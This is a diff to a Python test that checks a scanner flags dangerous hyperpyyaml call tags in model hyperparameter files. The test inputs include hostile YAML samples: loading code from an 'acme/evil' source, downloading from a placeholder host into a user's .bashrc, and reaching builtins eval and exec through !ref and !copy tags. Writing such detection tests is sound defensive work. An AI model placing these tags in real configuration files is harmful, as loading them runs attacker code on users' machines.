@@ -53,6 +53,10 @@ def _ids(r: object) -> list[str]:
     'm: !apply:speechbrain.inference.interfaces.foreign_class {source: acme/evil, pymodule_file: custom.py}\n',
     'm: !apply:hyperpyyaml.load_hyperpyyaml ["x: 1"]\n',
     'd: !applyref:speechbrain.utils.data_utils.download_file [http://x.invalid/a, /home/u/.bashrc]\n',
+    # !ref <key.attr> is getattr on what the key's call tag gives
+    'b: !module:builtins\ne: !ref <b.eval>\n',
+    'k: 1\nb: !module:builtins\ne: !copy <b.exec>\n',
+    'p: !name:posixpath\nj: !ref <p.join>\n',
 ])
 def test_119pa1_hyperpyyaml_call_tags_naming_danger_are_unsafe(text: str) -> None:
     r = scan_bytes(text.encode(), "hyperparams.yaml")
